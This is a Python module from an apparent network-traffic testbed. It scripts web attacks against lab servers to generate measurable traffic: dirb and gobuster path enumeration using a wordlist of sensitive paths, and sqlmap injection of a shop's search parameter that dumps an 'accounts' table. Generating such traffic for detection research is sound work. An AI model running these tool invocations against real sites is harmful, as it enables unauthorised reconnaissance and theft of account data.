"""Discovery and exploits of web servers: paths that are not linked, and SQL injection."""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from wirelens_testbed.attacks.attack import OVERHEAD_PACKETS, Attack, Bounds, Scene
from wirelens_testbed.scenario import Table

DISCOVERY_PROGRAMS = {
    "dirb_paths": {"dirb": "dirb"},
    "gobuster_paths": {"gobuster": "gobuster"},
}
SQLMAP_PROGRAMS = {"sqlmap": "sqlmap"}
PROGRAMS = {
    name: package
    for programs in (*DISCOVERY_PROGRAMS.values(), SQLMAP_PROGRAMS)
    for name, package in programs.items()
}

# What one guesses that a site has, with and without a number or the end of a file's name.
PATH_WORDS = (
    "admin", "api", "archive", "auth", "backup", "bin", "blog", "cgi-bin", "config", "console",
    "data", "db", "debug", "dev", "docs", "download", "export", "files", "forum", "help",
    "home", "images", "include", "index", "install", "js", "lib", "log", "login", "mail",
    "manager", "media", "new", "old", "panel", "phpmyadmin", "private", "public", "report",
    "script", "search", "server", "setup", "shop", "site", "sql", "staff", "static", "status",
    "submit", "temp", "test", "upload", "user", "var", "web", "wiki", "xml",
)  # fmt: skip
PATH_ENDINGS = ("", "", ".html", ".php", ".txt", ".bak", ".old", ".zip", "1", "2", "-old", "_new")

# A connection each at worst; the page of an error is small.
FRAMES_PER_REQUEST = 12
# A site that a scanner finds by chance may answer with its largest file.
FRAMES_FOR_FILES = 3000
SQLMAP_REQUESTS_MAX = 3000
BLIND_ROWS = 1
TECHNIQUES = {"union": "U", "boolean": "B"}


@dataclass
class PathDiscovery(Attack):
    """Requests for paths of a list, to see which exist."""

    name: str
    path_count: int
    delay_ms: int
    task_count: int
    needs: frozenset[str] = frozenset({"web"})

    def __post_init__(self) -> None:
        self.programs = DISCOVERY_PROGRAMS[self.name]
        packets_max = OVERHEAD_PACKETS + FRAMES_FOR_FILES + self.path_count * FRAMES_PER_REQUEST
        self.bounds = Bounds(packets_max, 20 + 3 * self.path_count * (self.delay_ms + 5) / 1000)

    def launch(self, scene: Scene) -> dict[str, object]:
        target = scene.servers["web"]
        path = scene.folder / "paths"
        path.write_text("".join(f"{each}\n" for each in draw_paths(scene.rng, self.path_count)))
        base = f"http://{target.address}/"
        if self.name == "dirb_paths":
            said = scene.run_tool("dirb", base, path, "-S", "-r", "-z", str(self.delay_ms))
            found = len(re.findall(r"^\+ http", said, re.MULTILINE))
        else:
            said = scene.run_tool(
                "gobuster", "dir", "-u", base, "-w", path, "-t", str(self.task_count),
                "--delay", f"{self.delay_ms}ms", "--no-progress", "--quiet", "--no-color",
            )  # fmt: skip
            found = said.count("(Status:")
        return {"target": target.address, "paths": self.path_count, "found": found}


@dataclass
class SqlInjection(Attack):
    """sqlmap finds out how a search of the shop can be injected, and reads a table with it."""

    programs = SQLMAP_PROGRAMS

    name: str
    technique: str
    task_count: int
    delay_s: float
    dumps: bool
    needs: frozenset[str] = frozenset({"shop"})

    def __post_init__(self) -> None:
        packets_max = OVERHEAD_PACKETS + SQLMAP_REQUESTS_MAX * FRAMES_PER_REQUEST
        self.bounds = Bounds(packets_max, 120)

    def launch(self, scene: Scene) -> dict[str, object]:
        target = scene.servers["shop"]
        said = scene.run_tool(
            "sqlmap", "-u", f"http://{target.address}/search?category=2", "--batch",
            "--ignore-stdin", "--disable-coloring",
            "--output-dir", scene.folder / "found",
            "-p", "category", "--technique", TECHNIQUES[self.technique],
            "--threads", str(self.task_count),
            "--delay", f"{self.delay_s:g}", "--timeout", "5", "--dbms", "SQLite",
            *(["-T", "accounts", "--dump", *self._rows()] if self.dumps else ["--banner"]),
        )  # fmt: skip
        counted = re.search(r"with a total of (\d+) HTTP", said)
        return {
            "target": target.address,
            "is_injectable": "injection point" in said,
            "requests_to_detect": int(counted[1]) if counted else 0,
            "rows_read": len(re.findall(r"^\| \d+ +\| user", said, re.MULTILINE)),
        }

    def _rows(self) -> list[str]:
        # Bit by bit, table and row take six hundred requests.
        return ["--stop", str(BLIND_ROWS)] if self.technique == "boolean" else []


def draw_paths(rng: random.Random, count: int) -> list[str]:
    """Different paths that a site may have, those of the web server among them."""
    paths = [word + ending for word in PATH_WORDS for ending in dict.fromkeys(PATH_ENDINGS)]
    paths += [f"{number}{ending}" for number in range(24) for ending in (".html", ".txt", ".pdf")]
    return rng.sample(paths, min(count, len(paths)))


def parse_paths(name: str, table: Table) -> Attack:
    return PathDiscovery(
        name=name,
        path_count=table.take("paths", int, 100, minimum=1, maximum=600),
        delay_ms=table.take("delay_ms", int, 20, minimum=0, maximum=2000),
        task_count=table.take("tasks", int, 2, minimum=1, maximum=16),
    )


def parse_injection(name: str, table: Table) -> Attack:
    return SqlInjection(
        name=name,
        technique=table.take("technique", str, "union", among=tuple(TECHNIQUES)),
        task_count=table.take("tasks", int, 1, minimum=1, maximum=8),
        delay_s=table.take("delay_s", float, 0.0, minimum=0, maximum=2),
        dumps=table.take("dumps", bool, True),
    )


ATTACKS: Mapping[str, Callable[[str, Table], Attack]] = {
    **dict.fromkeys(DISCOVERY_PROGRAMS, parse_paths),
    "sqlmap_injection": parse_injection,
}
